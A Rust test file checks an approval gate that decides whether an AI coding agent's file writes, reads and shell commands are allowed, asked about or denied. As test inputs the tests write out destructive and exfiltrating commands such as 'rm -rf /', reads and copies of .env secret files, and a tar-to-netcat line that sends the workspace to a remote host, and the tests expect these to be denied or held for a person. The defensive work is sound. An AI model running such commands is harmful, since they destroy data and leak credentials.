use super::*;
use crate::TEST_COMMAND_RULE;

fn gate(mode: ApprovalMode, tweak: impl FnOnce(&mut GateSettings, &mut PathSpec)) -> Gate {
    let mut settings = GateSettings {
        mode,
        ..GateSettings::default()
    };
    let mut spec = PathSpec::from_config(&chamber_config::PathsConfig::default());
    tweak(&mut settings, &mut spec);
    Gate::new(Policy::builtin(), PathRules::new(&spec).unwrap(), settings)
}

fn write<'a>(paths: &'a [String]) -> Request<'a> {
    Request::Write {
        tool: "write_file",
        paths,
    }
}

fn exec(command: &str) -> Request<'_> {
    Request::Exec {
        tool: "shell",
        command,
    }
}

fn p(s: &str) -> Vec<String> {
    vec![s.to_string()]
}

#[test]
fn each_mode_decides_writes_and_commands() {
    let src = p("src/lib.rs");
    let cases = [
        (ApprovalMode::ReadOnly, Decision::Deny, Decision::Deny),
        (ApprovalMode::Ask, Decision::Ask, Decision::Ask),
        (ApprovalMode::AutoEdit, Decision::Allow, Decision::Ask),
        (ApprovalMode::FullAuto, Decision::Allow, Decision::Allow),
    ];
    for (mode, w, x) in cases {
        let g = gate(mode, |_, _| {});
        assert_eq!(g.judge(&write(&src)).decision, w, "{mode} write");
        assert_eq!(g.judge(&exec("make build")).decision, x, "{mode} exec");
        // Reads are always fine; built-in denials hold in every mode.
        let read = Request::Read {
            tool: "read_file",
            paths: &src,
        };
        assert_eq!(g.judge(&read).decision, Decision::Allow, "{mode} read");
        assert_eq!(
            g.judge(&exec("rm -rf /")).decision,
            Decision::Deny,
            "{mode}"
        );
    }
}

#[test]
fn protected_paths_ask_explicitly_even_in_full_auto_with_yes() {
    let g = gate(ApprovalMode::FullAuto, |s, _| s.auto_approve = true);
    let v = g.judge(&write(&p("app/migrations/0002.py")));
    assert_eq!(v.decision, Decision::Ask);
    assert!(v.explicit);
    assert_eq!(v.tier, RiskTier::High);
    assert!(v.rule.unwrap().contains("**/migrations/**"));
    // A remembered "always for this file" answer covers it afterwards.
    let paths = p("app/migrations/0002.py");
    g.remember(&write(&paths), GrantScope::Exact);
    assert_eq!(g.judge(&write(&paths)).decision, Decision::Allow);
}

#[test]
fn two_person_paths_need_two_approvers_and_no_session_grant() {
    let g = gate(ApprovalMode::FullAuto, |_, spec| {
        spec.two_person = vec!["deploy/**".into()];
    });
    let paths = p("deploy/prod.yaml");
    g.remember(&write(&paths), GrantScope::Exact);
    let v = g.judge(&write(&paths));
    assert_eq!(
        (v.decision, v.approvers, v.explicit),
        (Decision::Ask, 2, true)
    );
}

#[test]
fn env_reads_are_denied_with_the_rule() {
    let g = gate(ApprovalMode::FullAuto, |_, _| {});
    let v = g.judge(&Request::Read {
        tool: "read_file",
        paths: &p("config/.env.production"),
    });
    assert_eq!(v.decision, Decision::Deny);
    assert!(v.rule.unwrap().starts_with("paths.read_deny"));
}

#[test]
fn lanes_confine_writes() {
    let g = gate(ApprovalMode::FullAuto, |s, spec| {
        s.lane = Some("docs".into());
        spec.lanes.insert("docs".into(), vec!["docs/**".into()]);
    });
    assert_eq!(g.judge(&write(&p("docs/a.md"))).decision, Decision::Allow);
    let v = g.judge(&write(&p("src/a.rs")));
    assert_eq!(v.decision, Decision::Deny);
    assert!(v.reason.contains("write lane"), "{}", v.reason);
}

#[test]
fn tool_overrides_and_yes() {
    let g = gate(ApprovalMode::FullAuto, |s, _| {
        s.tools.insert("shell".into(), ToolOverride::Never);
        s.tools.insert("write_file".into(), ToolOverride::Ask);
    });
    assert_eq!(g.judge(&exec("ls")).decision, Decision::Deny);
    assert_eq!(g.judge(&write(&p("a.txt"))).decision, Decision::Ask);
    let g = gate(ApprovalMode::Ask, |s, _| {
        s.tools.insert("write_file".into(), ToolOverride::Always);
    });
    assert_eq!(g.judge(&write(&p("a.txt"))).decision, Decision::Allow);
    let g = gate(ApprovalMode::Ask, |s, _| s.auto_approve = true);
    let v = g.judge(&exec("make build"));
    assert_eq!(v.decision, Decision::Allow);
    assert!(v.reason.contains("--yes"), "{}", v.reason);
}

#[test]
fn session_grants_by_exact_command_and_prefix() {
    let g = gate(ApprovalMode::Ask, |_, _| {});
    assert_eq!(g.judge(&exec("make build")).decision, Decision::Ask);
    g.remember(&exec("make build"), GrantScope::Exact);
    assert_eq!(g.judge(&exec("make build")).decision, Decision::Allow);
    assert_eq!(g.judge(&exec("make install")).decision, Decision::Ask);
    g.remember(&exec("npm run lint -- --fix"), GrantScope::Prefix);
    assert_eq!(g.judge(&exec("npm run test")).decision, Decision::Allow);
    assert_eq!(g.judge(&exec("npm install x")).decision, Decision::Ask);
}

#[test]
fn full_auto_without_sandbox_refuses_or_asks() {
    let g = gate(ApprovalMode::FullAuto, |s, _| {
        s.sandbox = SandboxState::Unavailable {
            reason: "no user namespaces".into(),
            refuse: true,
        };
    });
    let v = g.judge(&exec("make build"));
    assert_eq!(v.decision, Decision::Deny);
    assert!(v.reason.contains("no user namespaces"));
    assert_eq!(v.rule.as_deref(), Some("sandbox.on_unavailable"));
    let g = gate(ApprovalMode::FullAuto, |s, _| {
        s.sandbox = SandboxState::Unavailable {
            reason: "x".into(),
            refuse: false,
        };
    });
    assert_eq!(g.judge(&exec("make build")).decision, Decision::Ask);
}

#[test]
fn guarded_writes_are_marked_staged() {
    let g = gate(ApprovalMode::FullAuto, |_, spec| {
        spec.guarded = vec!["db/**".into()]
    });
    assert!(g.judge(&write(&p("db/schema.sql"))).staged);
    assert!(!g.judge(&write(&p("src/a.rs"))).staged);
}

#[test]
fn commands_reading_env_files_are_denied() {
    let g = gate(ApprovalMode::FullAuto, |_, _| {});
    for cmd in [
        "cat .env",
        "source ./.env.prod && run",
        "grep KEY < .env",
        "cp .env /tmp/x",
    ] {
        let v = g.judge(&exec(cmd));
        assert_eq!(v.decision, Decision::Deny, "{cmd}");
        assert!(v.rule.unwrap().starts_with("paths.read_deny"), "{cmd}");
    }
    assert_eq!(g.judge(&exec("cat .env.example")).decision, Decision::Allow);
}

/// Commands Chamber cannot read or bound, as a model might send them.
const UNREADABLE: &[(&str, &str)] = &[
    ("$(echo rm) -rf /", "builtin:dynamic-command"),
    ("python3 -c 'import shutil'", "builtin:inline-code"),
    ("awk 'BEGIN{system(\"touch x\")}'", "builtin:inline-code"),
    ("vim -c ':!touch x' -c ':q' f", "builtin:inline-code"),
    (
        "find /srv/data -name '*.log' -exec rm {} \\;",
        "builtin:write-outside-workspace",
    ),
    ("rsync -a --delete src/ backup/", "builtin:sync-delete"),
    (
        "tar czf - . | nc example.com 9000",
        "builtin:archive-to-network",
    ),
    ("sudo python3 -c 'x'", "builtin:inline-code"),
];

fn in_workspace(g: &Gate, command: &str) -> GateVerdict {
    let ws = std::path::Path::new("/work/proj");
    let ctx = CommandContext {
        workspace: Some(ws),
        ..CommandContext::default()
    };
    g.judge_in(&exec(command), &ctx)
}

#[test]
fn without_a_sandbox_yes_never_approves_what_the_policy_cannot_read() {
    let unconfined = [
        SandboxState::Off,
        SandboxState::Unconfined {
            reason: "no user namespaces".into(),
        },
        SandboxState::Unavailable {
            reason: "no user namespaces".into(),
            refuse: false,
        },
    ];
    for state in unconfined {
        for mode in [ApprovalMode::Ask, ApprovalMode::FullAuto] {
            let g = gate(mode, |s, _| {
                s.auto_approve = true;
                s.sandbox = state.clone();
            });
            for (cmd, rule) in UNREADABLE {
                let v = in_workspace(&g, cmd);
                assert_eq!(v.decision, Decision::Ask, "{state:?} {mode} {cmd}: {v:?}");
                assert!(v.explicit, "{state:?} {cmd}: only a person may approve");
                assert_eq!(v.rule.as_deref(), Some(*rule), "{state:?} {cmd}");
                assert!(v.reason.contains("only a person"), "{}", v.reason);
            }
            // What the policy can read, --yes still answers (with no sandbox).
            let v = in_workspace(&g, "make build");
            assert_eq!(v.decision, Decision::Allow, "{state:?} {mode}: {v:?}");
        }
        // A person's earlier yes to the very command still counts.
        let g = gate(ApprovalMode::Ask, |s, _| s.sandbox = state.clone());
        g.remember(&exec("python3 -c 'x'"), GrantScope::Exact);
        assert_eq!(in_workspace(&g, "python3 -c 'x'").decision, Decision::Allow);
        g.remember(&exec("python3 -c 'y'"), GrantScope::Prefix);
        let v = in_workspace(&g, "python3 -c 'z'");
        assert!(
            v.explicit,
            "a prefix grant does not cover other code: {v:?}"
        );
    }
    // Sandboxed, --yes answers them as before.
    let g = gate(ApprovalMode::Ask, |s, _| s.auto_approve = true);
    for (cmd, _) in UNREADABLE {
        let v = in_workspace(&g, cmd);
        assert_eq!(v.decision, Decision::Allow, "{cmd}: {v:?}");
        assert!(v.preapproved, "{cmd}");
    }
}

#[test]
fn test_commands_run_without_asking_in_auto_edit_when_sandboxed() {
    let tests = [
        "pytest -q",
        "python3 -m pytest tests/",
        "python -m pytest",
        "npm test",
        "go test ./...",
        "make test",
        "cargo test --all",
        "cd sub && pytest",
    ];
    let g = gate(ApprovalMode::AutoEdit, |_, _| {});
    for cmd in tests {
        let v = in_workspace(&g, cmd);
        assert_eq!(v.decision, Decision::Allow, "{cmd}: {v:?}");
        assert_eq!(v.rule.as_deref(), Some(TEST_COMMAND_RULE), "{cmd}");
    }
    // Anything else in the line still asks, as do the same commands in ask
    // mode and, in auto-edit, without a sandbox.
    assert_eq!(
        in_workspace(&g, "pytest && make build").decision,
        Decision::Ask
    );
    let v = in_workspace(&g, "pytest && make build");
    assert_eq!(v.rule, None, "the unknown part is reported: {v:?}");
    let ask = gate(ApprovalMode::Ask, |_, _| {});
    let bare = gate(ApprovalMode::AutoEdit, |s, _| s.sandbox = SandboxState::Off);
    for cmd in tests {
        assert_eq!(in_workspace(&ask, cmd).decision, Decision::Ask, "{cmd}");
        assert_eq!(in_workspace(&bare, cmd).decision, Decision::Ask, "{cmd}");
    }
}

#[test]
fn the_default_policy_file_knows_python3() {
    let g = Gate::new(
        Policy::from_toml(crate::DEFAULT_POLICY_TOML, "policy.toml").unwrap(),
        PathRules::defaults(),
        GateSettings::default(),
    );
    for cmd in ["python3 scripts/gen.py", "python tool.py"] {
        let v = in_workspace(&g, cmd);
        assert_eq!(v.decision, Decision::Allow, "{cmd}: {v:?}");
        assert_eq!(v.rule.as_deref(), Some("project-scripts"));
    }
    assert_eq!(
        in_workspace(&g, "python3 -c 'x'").rule.as_deref(),
        Some("builtin:inline-code")
    );
}

#[test]
fn explained_judgements_mark_secret_reads_in_the_parts() {
    let g = gate(ApprovalMode::Ask, |_, _| {});
    let j = g.judge_explained(&exec("ls && cat .env"), &CommandContext::default());
    assert_eq!(j.verdict.decision, Decision::Deny);
    assert_eq!(j.verdict.rule.as_deref(), Some("paths.read_deny: .env"));
    let parts = j.report.unwrap().parts;
    assert_eq!(parts[0].verdict.decision, Decision::Allow);
    assert_eq!(parts[1].verdict.decision, Decision::Deny);
    assert!(
        g.judge_explained(&write(&p("a")), &CommandContext::default())
            .report
            .is_none()
    );
}

#[test]
fn outside_tools_are_high_risk_and_their_paths_follow_the_path_rules() {
    let external = |paths: &'static [String]| Request::External {
        tool: "mcp__fs__write_file",
        paths,
    };
    let none: &'static [String] = &[];
    for (mode, wanted) in [
        (ApprovalMode::ReadOnly, Decision::Deny),
        (ApprovalMode::Ask, Decision::Ask),
        (ApprovalMode::AutoEdit, Decision::Ask),
        (ApprovalMode::FullAuto, Decision::Allow),
    ] {
        let v = gate(mode, |_, _| {}).judge(&external(none));
        assert_eq!((v.decision, v.tier), (wanted, RiskTier::High), "{mode}");
    }
    // A protected path it names needs a person, even in full-auto.
    let env: &'static [String] = Box::leak(Box::new(p(".env")));
    let v = gate(ApprovalMode::FullAuto, |_, _| {}).judge(&external(env));
    assert_eq!(v.decision, Decision::Ask, "{v:?}");
    assert!(v.explicit, "{v:?}");
    // `always` lifts the read-only denial; `never` denies in every mode.
    let always = gate(ApprovalMode::ReadOnly, |s, _| {
        s.tools
            .insert("mcp__fs__write_file".into(), ToolOverride::Always);
    })
    .judge(&external(none));
    assert_eq!(always.decision, Decision::Allow, "{always:?}");
    let never = gate(ApprovalMode::FullAuto, |s, _| {
        s.tools
            .insert("mcp__fs__write_file".into(), ToolOverride::Never);
    })
    .judge(&external(none));
    assert_eq!(never.decision, Decision::Deny, "{never:?}");
}
